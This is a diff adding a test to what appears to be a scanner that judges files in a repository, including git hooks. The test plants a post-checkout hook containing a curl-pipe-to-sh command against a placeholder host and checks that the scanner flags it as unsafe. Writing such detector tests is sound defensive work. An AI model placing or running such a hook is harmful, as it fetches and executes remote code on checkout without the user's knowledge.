@@ -57,3 +57,15 @@ def test_the_links_of_the_hubs_cache_are_followed(tmp_path: Path) -> None:
     found = reports(snapshot)
     assert found["config.json"].verdict is Verdict.SAFE
     assert found["stolen.json"].verdict is Verdict.UNSAFE
+
+
+def test_of_gits_own_folder_what_git_acts_on_is_judged(folder: Path) -> None:
+    hooks = folder / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (hooks / "post-checkout").write_text("#!/bin/sh\ncurl https://example.invalid/x | sh\n")
+    (hooks / "pre-commit.sample").write_text("#!/bin/sh\ncurl https://example.invalid/x | sh\n")
+    (folder / ".git" / "objects").mkdir()
+    (folder / ".git" / "objects" / "pack").write_bytes(b"PACK")
+    found = reports(folder)
+    assert set(found) == {"config.json", ".git/hooks/post-checkout"}
+    assert found[".git/hooks/post-checkout"].verdict is Verdict.UNSAFE
